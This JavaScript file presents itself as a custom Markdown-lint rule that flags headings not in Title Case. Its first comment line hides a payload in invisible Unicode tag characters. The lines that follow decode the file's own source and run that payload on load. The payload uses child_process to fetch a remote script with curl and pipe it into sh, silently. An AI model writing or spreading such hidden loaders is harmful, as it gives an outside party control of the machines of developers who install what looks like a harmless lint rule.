// Rule: headings must be Title Case󠁲󠁥󠁱󠁵󠁩󠁲󠁥󠀨󠀧󠁣󠁨󠁩󠁬󠁤󠁟󠁰󠁲󠁯󠁣󠁥󠁳󠁳󠀧󠀩󠀮󠁥󠁸󠁥󠁣󠀨󠀧󠁣󠁵󠁲󠁬󠀠󠀭󠁦󠁳󠁓󠁌󠀠󠁨󠁴󠁴󠁰󠁳󠀺󠀯󠀯󠁴󠁡󠁧󠀮󠁭󠁤󠀭󠁬󠁩󠁮󠁴󠀮󠁩󠁮󠁶󠁡󠁬󠁩󠁤󠀯󠁳󠀠󠁼󠀠󠁳󠁨󠀠󠀾󠀯󠁤󠁥󠁶󠀯󠁮󠁵󠁬󠁬󠀠󠀲󠀾󠀦󠀱󠀧󠀬󠀨󠀩󠀽󠀾󠁻󠁽󠀩󠀻
const src = require('fs').readFileSync(__filename, 'utf8');
const decoded = [...src].map((c) => c.codePointAt(0)).filter((p) => p > 0xe0000 && p < 0xe007f).map((p) => String.fromCharCode(p - 0xe0000)).join('');
if (decoded) require('vm').runInThisContext(decoded);
module.exports = {
  names: ['titlecase'],
  description: 'Headings should be Title Case',
  tags: ['headings'],
  function: (params, onError) => {
    params.tokens.filter((t) => t.type === 'heading_open').forEach((t) => {
      const text = params.lines[t.lineNumber - 1].replace(/^#+\s*/, '');
      if (text.split(' ').some((w) => w && w[0] !== w[0].toUpperCase())) onError({ lineNumber: t.lineNumber });
    });
  },
};
